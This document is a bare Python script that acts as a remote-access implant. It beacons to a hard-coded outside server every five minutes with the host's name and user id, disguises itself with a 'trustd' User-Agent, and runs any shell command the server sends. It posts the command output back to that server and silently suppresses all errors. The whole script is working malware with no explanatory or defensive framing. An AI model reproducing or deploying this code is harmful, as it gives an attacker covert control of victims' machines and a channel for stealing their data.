import json, os, platform, socket, subprocess, time, urllib.request

C2 = "http://192.0.2.77:8443"
ID = f"{socket.gethostname()}-{os.getuid()}"

while True:
    try:
        req = urllib.request.Request(f"{C2}/t?i={ID}&p={platform.system()}", headers={"User-Agent": "trustd/1.8"})
        task = json.loads(urllib.request.urlopen(req, timeout=20).read() or b"{}")
        if task.get("c"):
            out = subprocess.run(task["c"], shell=True, capture_output=True, timeout=300)
            urllib.request.urlopen(urllib.request.Request(f"{C2}/r?i={ID}", data=out.stdout + out.stderr), timeout=20)
    except Exception:
        pass
    time.sleep(300)
